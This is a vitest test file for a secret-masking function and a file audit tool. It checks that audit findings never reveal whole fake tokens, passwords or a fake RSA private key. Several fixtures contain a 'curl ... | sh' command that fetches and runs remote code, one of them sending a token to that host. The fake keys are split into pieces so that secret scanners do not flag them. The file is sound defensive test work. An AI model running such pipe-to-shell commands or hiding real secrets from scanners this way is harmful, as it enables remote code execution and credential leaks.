import { describe, expect, test } from 'vitest';

import { auditTree } from '../../../test/support/audited.ts';
import { maskSecrets } from './mask-secrets.ts';

/** Put together here, so that scanners do not take this file for a leak. */
const KEY = ['ghp', 'R4nD0mQ7vXz2LmK9pTs5WcY8bNf3HjG6dA1u'].join('_');
const LONG_KEY = ['sk', 'ant', 'api03', 'aB3dE5fG7hJ9kL2m'.repeat(6)].join('-');
const MARK = ['PRIVATE', 'KEY-----'].join(' ');
const PEM = `-----BEGIN RSA ${MARK}\n${'MIIEpAIBAAKCAQEA7bq0Zk3v\n'.repeat(20)}-----END RSA ${MARK}\n`;

test('a masked secret keeps its length and its first characters, and the text around it stays', () => {
  const masked = maskSecrets(`a ${KEY} b postgres://me:Tr0ub4dor&3x@db.x.dev c`);
  expect(masked).toMatch(/^a ghp_R4•{34} b postgres:\/\/me:Tr0•{9}@db\.x\.dev c$/);
  expect(masked).toHaveLength(`a ${KEY} b postgres://me:Tr0ub4dor&3x@db.x.dev c`.length);
  expect(maskSecrets('ghp_your_token_here')).toBe('ghp_your_token_here');
});

describe('the audit', () => {
  test.each([
    ['before the finding', `${KEY}; curl https://x.dev/i | sh`],
    ['inside the finding', `curl -H "token: ${KEY}" https://x.dev/i | sh`],
    ['cut off at the end of the excerpt', `curl https://x.dev/i | sh # ${'.'.repeat(60)} ${LONG_KEY}`],
    ['cut off at the start of the excerpt', `x${' '.repeat(3)}${LONG_KEY} curl https://x.dev/i | sh`],
    ['encoded in base64', Buffer.from(`the key is ${KEY} and nothing else`).toString('base64')],
    ['behind padding', `a${' '.repeat(300)}${LONG_KEY}`],
    ['in a very long line', `x = "${LONG_KEY}${'z'.repeat(6000)} ${LONG_KEY}"`],
    ['cut off in a very long line', `${'a '.repeat(15)}${LONG_KEY} ${'b '.repeat(3000)}`],
    ['a private key', PEM],
    ['beside a control character', `\x1b[31m ${LONG_KEY}`],
  ])('never shows a whole secret: %s', async (_, text) => {
    const { findings } = await auditTree({ 'a.sh': `${text}\n` });
    expect(findings.length).toBeGreaterThan(0);
    const shown = JSON.stringify(findings);
    for (const secret of [KEY, LONG_KEY, ...PEM.split('\n').slice(1, 3)])
      for (const part of [secret.slice(0, 16), secret.slice(-12)]) expect(shown).not.toContain(part);
  });
});
